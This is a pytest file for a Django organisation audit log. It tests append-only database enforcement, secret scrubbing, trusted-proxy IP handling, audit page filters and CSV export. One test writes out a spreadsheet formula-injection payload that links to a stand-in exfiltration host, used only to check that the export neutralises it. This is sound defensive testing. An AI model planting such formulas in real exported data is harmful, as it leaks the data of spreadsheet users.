"""The audit log: append-only in the database, no secrets, who/where from the request,
and the organization's audit page and CSV export."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from django.db import DatabaseError, ProgrammingError, connection, transaction
from django.test import Client, override_settings
from django.urls import reverse

from accounts.models import AuditEvent
from accounts.request_context import _trusted_networks
from accounts.roles import Role
from accounts.services import audit_record, organization_update
from accounts.tests.factories import PASSWORD

pytestmark = pytest.mark.django_db

# PostgreSQL's SQLSTATE for insufficient_privilege, which the append-only trigger raises.
INSUFFICIENT_PRIVILEGE = "42501"


def _event(team, **fields) -> AuditEvent:
    return audit_record(action=fields.pop("action", "test.event"), organization=team.org, actor=team.owner, **fields)


def _stored(event: AuditEvent) -> dict:
    """The row as the database holds it, read with raw SQL so no ORM layer is involved."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT action, actor_label FROM accounts_auditevent WHERE id = %s", [event.pk])
        row = cursor.fetchone()
    return {"action": row[0], "actor_label": row[1]} if row else {}


# --- append-only, enforced by PostgreSQL ---------------------------------------------------


def test_the_database_rejects_a_raw_update_of_an_audit_event(team):
    event = _event(team, action="membership.removed")
    with pytest.raises(ProgrammingError) as raised, transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE accounts_auditevent SET action = 'nothing.happened' WHERE id = %s", [event.pk])
    assert raised.value.__cause__.sqlstate == INSUFFICIENT_PRIVILEGE
    assert "append-only" in str(raised.value)
    assert _stored(event) == {"action": "membership.removed", "actor_label": team.owner.email}


def test_the_database_rejects_a_raw_delete_of_an_audit_event(team):
    event = _event(team, action="membership.removed")
    with pytest.raises(ProgrammingError) as raised, transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("DELETE FROM accounts_auditevent WHERE id = %s", [event.pk])
    assert raised.value.__cause__.sqlstate == INSUFFICIENT_PRIVILEGE
    assert _stored(event)["action"] == "membership.removed"


def test_the_orm_cannot_update_or_delete_audit_events_even_through_the_unscoped_manager(team):
    event = _event(team, action="membership.removed")
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.all_objects.filter(pk=event.pk).update(actor_label="someone else")
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.all_objects.filter(pk=event.pk).delete()
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.for_org(team.org).filter(pk=event.pk).delete()
    event.action = "edited.afterwards"
    with pytest.raises(DatabaseError), transaction.atomic():
        event.save()
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.all_objects.get(pk=event.pk).delete()
    assert _stored(event) == {"action": "membership.removed", "actor_label": team.owner.email}


def test_new_audit_events_can_still_be_appended(team):
    before = AuditEvent.objects.for_org(team.org).count()
    _event(team)
    _event(team)
    assert AuditEvent.objects.for_org(team.org).count() == before + 2


# --- what audit_record stores ---------------------------------------------------------------


def test_audit_record_drops_secret_named_details_and_keeps_the_rest(team):
    event = _event(
        team,
        details={
            "password": "hunter2-hunter2",
            "token": "tok_abc",
            "secret": "shh",
            "api_key": "ak_live_123",
            "new_password": "another-one",
            "email": "someone@example.com",
            "role": "trader",
        },
    )
    stored = AuditEvent.all_objects.get(pk=event.pk)
    assert stored.details == {"email": "someone@example.com", "role": "trader"}
    with connection.cursor() as cursor:
        cursor.execute("SELECT details::text FROM accounts_auditevent WHERE id = %s", [event.pk])
        raw = cursor.fetchone()[0]
    for secret in ("hunter2-hunter2", "tok_abc", "shh", "ak_live_123", "another-one"):
        assert secret not in raw


def test_audit_record_names_the_actor_and_target(team):
    membership = team.membership(Role.TRADER)
    event = audit_record(action="membership.removed", organization=team.org, actor=team.admin, target=membership)
    stored = AuditEvent.all_objects.get(pk=event.pk)
    assert stored.actor_user_id == team.admin.pk
    assert stored.actor_label == team.admin.email
    assert (stored.target_type, stored.target_id) == ("accounts.membership", str(membership.pk))
    assert stored.organization_id == team.org.pk


def test_an_event_outside_a_request_has_no_ip_and_a_system_actor(team):
    event = audit_record(action="organization.purged", organization=team.org)
    stored = AuditEvent.all_objects.get(pk=event.pk)
    assert stored.ip is None
    assert stored.user_agent == ""
    assert stored.actor_label == "system"


def _login(client: Client, user, **extra):
    return client.post(reverse("account_login"), {"login": user.email, "password": PASSWORD}, **extra)


def _last_login_event(user) -> AuditEvent:
    return AuditEvent.objects.for_user_history(user).filter(action="auth.login").latest("id")


def test_audit_events_record_the_ip_and_user_agent_of_the_request(outsider):
    client = Client(REMOTE_ADDR="203.0.113.7", HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux) AuditTest/1.0")
    response = _login(client, outsider)
    assert response.status_code == 302
    event = _last_login_event(outsider)
    assert event.ip == "203.0.113.7"
    assert event.user_agent == "Mozilla/5.0 (X11; Linux) AuditTest/1.0"


@pytest.fixture
def trusted_proxies():
    """Apply a TRUSTED_PROXIES setting; the parsed networks are cached, so clear the cache around it."""

    def apply(cidrs: list[str]):
        override = override_settings(TRUSTED_PROXIES=cidrs)
        override.enable()
        _trusted_networks.cache_clear()
        applied.append(override)

    applied: list = []
    yield apply
    for override in applied:
        override.disable()
    _trusted_networks.cache_clear()


def test_forwarded_for_is_believed_when_the_peer_is_a_trusted_proxy(outsider, trusted_proxies):
    trusted_proxies(["10.0.0.0/8"])
    client = Client(REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR="198.51.100.9")
    _login(client, outsider)
    assert _last_login_event(outsider).ip == "198.51.100.9"


def test_a_client_cannot_spoof_its_address_by_prepending_to_forwarded_for(outsider, trusted_proxies):
    trusted_proxies(["10.0.0.0/8"])
    # The client sent "1.2.3.4"; the edge proxy appended the real peer, an inner proxy appended the edge.
    client = Client(REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="1.2.3.4, 198.51.100.9, 10.0.0.1")
    _login(client, outsider)
    assert _last_login_event(outsider).ip == "198.51.100.9"


def test_forwarded_for_is_ignored_when_the_peer_is_not_a_trusted_proxy(outsider, trusted_proxies):
    trusted_proxies(["10.0.0.0/8"])
    client = Client(REMOTE_ADDR="203.0.113.7", HTTP_X_FORWARDED_FOR="198.51.100.9")
    _login(client, outsider)
    assert _last_login_event(outsider).ip == "203.0.113.7"


def test_forwarded_for_is_ignored_when_no_proxy_is_trusted(outsider, trusted_proxies):
    trusted_proxies([])
    client = Client(REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR="198.51.100.9")
    _login(client, outsider)
    assert _last_login_event(outsider).ip == "10.1.2.3"


# --- the organization's audit page --------------------------------------------------------------


def _audit_url(team, **query) -> str:
    url = reverse("org_audit", args=[team.org.slug])
    if query:
        from urllib.parse import urlencode

        url += "?" + urlencode(query)
    return url


def _page_actions(response) -> list[str]:
    return [event.action for event in response.context["page"].object_list]


def _insert(team, *, action: str, actor, created_at: datetime) -> AuditEvent:
    """An event at a chosen time (inserting is allowed; only UPDATE and DELETE are refused)."""
    return AuditEvent.all_objects.create(
        organization=team.org,
        actor_user=actor,
        actor_label=actor.email,
        action=action,
        created_at=created_at,
    )


def test_an_admin_sees_only_their_organizations_events(team, other_team, client_for):
    mine = _event(team, action="membership.removed")
    theirs = audit_record(action="membership.removed", organization=other_team.org, actor=other_team.owner)
    response = client_for(team.admin).get(_audit_url(team))
    assert response.status_code == 200
    ids = {event.pk for event in response.context["page"].object_list}
    assert mine.pk in ids
    assert theirs.pk not in ids
    assert other_team.owner.email not in response.content.decode()


def test_the_audit_page_filters_by_action_prefix(team, client_for):
    _event(team, action="membership.removed")
    _event(team, action="membership.role_changed")
    _event(team, action="invitation.created")
    response = client_for(team.admin).get(_audit_url(team, action="membership."))
    assert sorted(_page_actions(response)) == ["membership.removed", "membership.role_changed"]


def test_the_audit_page_filters_by_actor(team, client_for):
    audit_record(action="membership.removed", organization=team.org, actor=team.owner)
    audit_record(action="invitation.created", organization=team.org, actor=team.admin)
    response = client_for(team.admin).get(_audit_url(team, actor=team.admin.email.upper()))
    assert _page_actions(response) == ["invitation.created"]


def test_the_audit_page_filters_by_an_inclusive_date_range(team, client_for):
    _insert(team, action="day.before", actor=team.owner, created_at=datetime(2026, 3, 9, 23, 59, tzinfo=UTC))
    _insert(team, action="first.day", actor=team.owner, created_at=datetime(2026, 3, 10, 0, 0, tzinfo=UTC))
    _insert(team, action="last.day", actor=team.owner, created_at=datetime(2026, 3, 12, 23, 59, tzinfo=UTC))
    _insert(team, action="day.after", actor=team.owner, created_at=datetime(2026, 3, 13, 0, 0, tzinfo=UTC))
    response = client_for(team.admin).get(_audit_url(team, since="2026-03-10", until="2026-03-12"))
    assert response.status_code == 200
    assert _page_actions(response) == ["last.day", "first.day"]


def test_an_inverted_date_range_is_a_400_with_a_message(team, client_for):
    _event(team)
    response = client_for(team.admin).get(_audit_url(team, since="2026-03-12", until="2026-03-10"))
    assert response.status_code == 400
    assert "must be on or before" in response.content.decode()


def test_the_audit_page_shows_fifty_events_per_page(team, client_for):
    start = datetime(2026, 1, 1, tzinfo=UTC)
    for n in range(120):
        _insert(team, action=f"test.n{n:03d}", actor=team.owner, created_at=start + timedelta(minutes=n))
    client = client_for(team.admin)
    first = client.get(_audit_url(team))
    third = client.get(_audit_url(team, page=3))
    assert len(first.context["page"].object_list) == 50
    assert first.context["page"].paginator.num_pages == 3
    # Newest first: page 1 starts at the 120th event, page 3 holds the 20 oldest.
    assert _page_actions(first)[0] == "test.n119"
    assert _page_actions(third) == [f"test.n{n:03d}" for n in range(19, -1, -1)]


@pytest.mark.parametrize("role", [Role.VIEWER, Role.TRADER])
def test_members_below_admin_cannot_open_the_audit_page_or_export_it(team, client_for, role):
    client = client_for(team.user(role))
    assert client.get(_audit_url(team)).status_code == 403
    assert client.get(reverse("org_audit_export", args=[team.org.slug])).status_code == 403
    assert not AuditEvent.objects.for_org(team.org).filter(action="audit.exported").exists()


def test_an_outsider_gets_a_404_for_another_organizations_audit_page(team, other_team, client_for):
    assert client_for(other_team.owner).get(_audit_url(team)).status_code == 404


# --- CSV export ---------------------------------------------------------------------------------


def _export(client: Client, team, **query) -> list[list[str]]:
    url = reverse("org_audit_export", args=[team.org.slug])
    response = client.get(url, query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_export_has_a_header_and_one_row_per_matching_event(team, other_team, client_for):
    audit_record(action="membership.removed", organization=team.org, actor=team.owner)
    audit_record(action="membership.role_changed", organization=team.org, actor=team.owner)
    audit_record(action="invitation.created", organization=team.org, actor=team.owner)
    audit_record(action="membership.removed", organization=other_team.org, actor=other_team.owner)
    rows = _export(client_for(team.admin), team, action="membership.")
    header, body = rows[0], rows[1:]
    assert header[:3] == ["time", "action", "actor"]
    assert sorted(row[header.index("action")] for row in body) == ["membership.removed", "membership.role_changed"]
    assert all(row[header.index("actor")] == team.owner.email for row in body)


def test_the_csv_export_never_includes_other_organizations(team, other_team, client_for):
    audit_record(action="membership.removed", organization=other_team.org, actor=other_team.owner)
    rows = _export(client_for(team.admin), team)
    assert other_team.owner.email not in "".join(",".join(row) for row in rows)


def test_the_csv_export_neutralises_spreadsheet_formulas(team, client_for):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    organization_update(organization=team.org, actor=team.owner, name=formula, require_2fa=False)
    rows = _export(client_for(team.admin), team, action="organization.updated")
    header, (row,) = rows[0], rows[1:]
    target = row[header.index("target")]
    assert target == "'" + formula
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    details = json.loads(row[header.index("details")])
    assert details["name"]["to"] == formula


def test_exporting_the_audit_log_is_itself_audited(team, client_for):
    client = client_for(team.admin)
    _export(client, team, action="membership.")
    event = AuditEvent.objects.for_org(team.org).get(action="audit.exported")
    assert event.actor_user_id == team.admin.pk
    assert event.details == {"action": "membership."}


def test_an_invalid_export_filter_is_a_400(team, client_for):
    response = client_for(team.admin).get(
        reverse("org_audit_export", args=[team.org.slug]), {"since": "2026-03-12", "until": "2026-03-10"}
    )
    assert response.status_code == 400
    assert "must be on or before" in response.content.decode()
    assert not AuditEvent.objects.for_org(team.org).filter(action="audit.exported").exists()


def test_the_csv_export_filters_by_an_inclusive_date_range(team, client_for):
    _insert(team, action="day.before", actor=team.owner, created_at=datetime(2026, 3, 9, 23, 59, tzinfo=UTC))
    _insert(team, action="first.day", actor=team.owner, created_at=datetime(2026, 3, 10, 0, 0, tzinfo=UTC))
    _insert(team, action="last.day", actor=team.owner, created_at=datetime(2026, 3, 12, 23, 59, tzinfo=UTC))
    _insert(team, action="day.after", actor=team.owner, created_at=datetime(2026, 3, 13, 0, 0, tzinfo=UTC))
    rows = _export(client_for(team.admin), team, since="2026-03-10", until="2026-03-12")
    header, body = rows[0], rows[1:]
    assert [row[header.index("action")] for row in body] == ["last.day", "first.day"]


# --- support staff's address stays with support -------------------------------------------------


def test_support_staffs_ip_and_user_agent_are_hidden_from_the_organizations_audit_log(team, client_for):
    from accounts import request_context
    from accounts.tests.factories import UserFactory

    def acting_from(ip: str, user_agent: str, **event):
        token = request_context._current.set(request_context.RequestMeta(ip=ip, user_agent=user_agent))
        try:
            return audit_record(organization=team.org, target=team.org, **event)
        finally:
            request_context._current.reset(token)

    staff = UserFactory(is_staff=True)  # support: staff, and no member of the organization
    acting_from("192.0.2.77", "SupportDesk/9", action="organization.restored", actor=staff)
    acting_from("198.51.100.5", "MemberBrowser/1", action="organization.updated", actor=team.owner)

    client = client_for(team.admin)
    page = client.get(reverse("org_audit", args=[team.org.slug])).content.decode()
    export = b"".join(client.get(reverse("org_audit_export", args=[team.org.slug])).streaming_content).decode()
    api = json.dumps(client.get(reverse("audit-event-list", kwargs={"org_slug": team.org.slug})).json())
    for shown in (page, export, api):
        assert "192.0.2.77" not in shown and "SupportDesk/9" not in shown
        assert "198.51.100.5" in shown and "MemberBrowser/1" in shown
    stored = AuditEvent.objects.for_org(team.org).get(action="organization.restored")
    assert (stored.ip, stored.user_agent, stored.by_support) == ("192.0.2.77", "SupportDesk/9", True)
